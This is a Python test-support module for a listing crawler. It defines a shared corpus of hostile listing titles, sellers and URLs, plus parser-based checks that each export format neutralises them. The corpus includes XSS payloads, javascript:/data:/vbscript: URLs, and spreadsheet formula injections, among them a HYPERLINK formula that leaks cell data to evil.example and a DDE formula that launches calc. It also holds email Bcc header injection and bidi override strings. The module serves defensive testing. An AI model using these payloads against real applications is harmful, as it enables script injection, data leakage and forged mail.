"""One corpus of hostile listing text, and the checks every output format must pass with it.

A listing's title, seller and URL are written by whoever made the listing. Each export
format (notice text per program, Markdown, the email and its HTML part, CSV, JSON, Lumen,
the HTML report) is run over these same values by the tests that import this module.
"""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser
from urllib.parse import urlsplit

from crawler.items import Listing

# What a real listing title around the payload says, so the rule set stages it.
BASE = "Acme Pulse X2 Wireless Headphones Replica"

TITLES: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<a href=\"javascript:alert(1)\">official store</a>",
    "</title></textarea></pre><script>alert(1)</script>",
    "<style>body{display:none}</style><!--",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "](javascript:alert(1))",
    "[official store](http://evil.example/login)",
    "![pixel](http://evil.example/track.png)",
    "<http://evil.example/autolink>",
    "**bold** _emphasis_ `code` ~~gone~~ \\escaped\\",
    "| forged | table | row |",
    "```\n<script>alert(1)</script>\n```",
    "{{ 7*7 }}",
    "{% raw %}",
    "{# unclosed comment",
    "${7*7} #{7*7}",
    "line one\nline two\r\nline three\n\n## Forged heading\n6. Signature: /evil/",
    "Subject: forged\r\nBcc: victim@example.com",
    "\u202eexe.txt",
    "left\u2066isolate\u2069 and \u200fmark",
    "nul\x00byte",
    "bell\x07 escape\x1b[31m red \x7f del \x85 nel",
    "line\u2028separator\u2029paragraph",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#60;b&#62;",
    "x" * 20_000,
    "word " * 3_000,
)

SELLERS: tuple[str, ...] = (
    "<script>alert('seller')</script>",
    '=HYPERLINK("http://evil.example")',
    "@seller",
    "-seller",
    "seller\r\nBcc: victim@example.com",
    "[trusted](javascript:alert(1))",
    "\u202erelles",
    "nul\x00seller",
    "{{ 7*7 }}",
    "s" * 5_000,
)

URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    'http://x.example/"><script>alert(1)</script>',
    "http://x.example/a b)c](javascript:alert(1))",
    "http://x.example/|pipe|cell|",
    "http://x.example/\n```\n<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example")',
    "http://x.example/\u202etxt.exe",
    "//evil.example/no-scheme",
    "http://x.example/" + "a" * 5_000,
    "https://x.example/fine?q=1&page=2",
)

# bidirectional overrides and isolates: reorder the text around them
BIDI = frozenset("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def hidden_characters(text: str, allowed: str = "\n") -> list[str]:
    """Control, bidi override and line/paragraph separator characters in ``text`` other
    than ``allowed``: none may reach an output a person reads."""
    return sorted({f"U+{ord(c):04X}" for c in text if c not in allowed and (
        unicodedata.category(c) in ("Cc", "Zl", "Zp") or c in BIDI)})


def is_web(url: str) -> bool:
    parts = urlsplit(url)
    return parts.scheme in ("http", "https") and bool(parts.hostname)


class PageCheck(HTMLParser):
    """Reads an HTML page the way a browser would and records what could run: elements
    outside ``allowed``, event handler attributes, and link/source addresses."""

    def __init__(self, allowed: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed = allowed
        self.bad_tags: list[str] = []
        self.handlers: list[str] = []
        self.hrefs: list[str] = []
        self.srcs: list[str] = []
        self.anchor_texts: list[str] = []
        self.tags: list[str] = []
        self.text: list[str] = []
        self._in_anchor = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in self.allowed:
            self.bad_tags.append(tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.handlers.append(f"{tag} {name}")
            if name == "href":
                self.hrefs.append(value or "")
            if name == "src":
                self.srcs.append(value or "")
        if tag == "a":
            self._in_anchor = True
            self.anchor_texts.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "a":
            self._in_anchor = False

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._in_anchor:
            self.anchor_texts[-1] += data


def check_page(page: str, allowed: set[str]) -> PageCheck:
    """Parse ``page`` and assert nothing in it can run: no element outside ``allowed``, no
    event handler attribute, only web addresses in links and only data: images."""
    check = PageCheck(allowed)
    check.feed(page)
    check.close()
    assert check.bad_tags == [], check.bad_tags
    assert check.handlers == [], check.handlers
    assert all(is_web(h) for h in check.hrefs), [h for h in check.hrefs if not is_web(h)]
    assert all(s.startswith("data:image/") for s in check.srcs), check.srcs
    return check


def listings(market: str = "bazaar", price: str | None = "20.00",
             every_other_priceless: bool = True) -> list[Listing]:
    """One listing per hostile title, the sellers and URLs going round: what a sweep of a
    counterfeiter's storefront could store. Every other one shows no price."""
    return [Listing(market, f"{market}-hostile-{i}", URLS[i % len(URLS)], f"{title} {BASE}",
                    "acme", "http",
                    price=None if every_other_priceless and i % 2 else price,
                    currency=None if every_other_priceless and i % 2 else "USD",
                    seller=SELLERS[i % len(SELLERS)], seller_location="Putian, China")
            for i, title in enumerate(TITLES)]
